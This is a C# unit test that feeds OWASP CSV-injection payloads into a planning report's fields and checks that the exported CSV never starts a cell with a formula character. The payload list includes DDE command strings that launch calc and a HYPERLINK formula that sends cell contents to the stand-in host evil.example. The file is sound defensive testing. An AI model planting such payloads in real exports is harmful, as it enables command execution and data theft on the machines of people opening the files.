using System.Globalization;
using CspFunctions.Plans;
using CspFunctions.Progress;
using CspFunctions.Reporting;

namespace CspFunctions.Tests.Reporting;

/// <summary>The report CSV with OWASP's CSV-injection payloads in every text a lead or manager can write: no cell starts
/// with a character a spreadsheet reads as the start of a formula (= + - @, tab, carriage return), bullets included.</summary>
public sealed class CsvInjectionTests
{
    /// <summary>From the OWASP CSV Injection page and its references, plus a bullet that hides a formula.</summary>
    public static readonly string[] Payloads =
    [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click for details\")",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=1+2\";=1+2",
        "=10+20+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "- 0+HYPERLINK(\"http://evil.example\")",
        "- Park A\n- Park B",
        "+44 1582 000000",
    ];

    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    public static TheoryData<int> PayloadIndexes() => new(Enumerable.Range(0, Payloads.Length));

    [Theory]
    [MemberData(nameof(PayloadIndexes))]
    public void A_payload_in_any_text_is_kept_as_text_and_never_starts_a_cell(int index)
    {
        var payload = Payloads[index];
        var sample = ReportData.Sample.Plan;
        var first = sample.Actions[0];
        var plan = sample with
        {
            Priorities = sample.Priorities.Select((p, i) => i == 0 ? p with { Title = payload } : p).ToList(),
            Leads = sample.Leads.Select(l => first.LeadIds.Contains(l.Id) ? l with { Name = payload } : l).ToList(),
            Actions = sample.Actions.Select(a => a.Number == first.Number ? a with { Text = payload, Documents = [new LinkedDocument(payload, null)] } : a).ToList(),
        };
        var updates = ReportData.SampleUpdates(plan).Select(u => u.ActionNumber == first.Number ? u with { Text = payload, GivenBy = payload } : u).ToList();
        var csv = CsvReport.Render(ReportBuilder.Build(ReportData.Inputs(plan, updates), ReportAudience.Board));

        using var reader = new CsvHelper.CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (reader.Read()) rows.Add(Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i)!).ToArray());
        Assert.Equal(sample.Actions.Count + 1, rows.Count);
        foreach (var cell in rows.SelectMany(r => r))
            Assert.False(cell.Length > 0 && FormulaStarts.Contains(cell[0]), $"a cell starts a formula: {cell}");

        // The text itself survives, behind the apostrophe a spreadsheet hides.
        var header = rows[0].ToList();
        var row = rows.Single(r => r[header.IndexOf("number")] == first.Number.ToString(CultureInfo.InvariantCulture));
        foreach (var column in new[] { "priority", "action", "documents", "progress", "given by" })
            Assert.Equal(payload, row[header.IndexOf(column)].TrimStart('\''));
        Assert.StartsWith(payload, row[header.IndexOf("leads")].TrimStart('\''));
    }
}
